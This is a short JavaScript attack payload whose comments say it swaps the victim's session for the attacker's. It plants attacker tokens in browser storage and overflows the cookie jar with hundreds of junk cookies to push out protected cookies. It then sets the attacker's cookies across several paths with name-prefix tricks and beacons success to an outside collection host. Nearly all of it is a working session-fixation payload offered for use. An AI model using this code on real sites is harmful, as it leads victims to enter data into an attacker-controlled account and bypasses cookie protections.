// Puts the attacker's own session in the place of the victim's, so that the victim works in the attacker's account.
// Floods the cookie jar first, for what script may not overwrite it may push out.
(async () => {
  const { tokens, cookies } = JSON.parse(PLANTED);
  if (tokens) for (const store of [localStorage, sessionStorage]) store.setItem("tokens", tokens);
  for (let n = 0; n < 400; n++) document.cookie = `f${n}=${n}; path=/; secure`;
  for (let n = 0; n < 400; n++) document.cookie = `g${n}=${n}; path=/`;
  for (const [name, value] of Object.entries(cookies)) {
    for (const rest of ["; path=/; secure", "; path=/", "; path=/api", "; path=/auth", "; path=/refresh"]) {
      document.cookie = `${name}=${value}${rest}`;
      document.cookie = `\u2000${name}=${value}${rest}`;
      document.cookie = `=${name}=${value}${rest}`;
    }
  }
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: "planted" });
})();
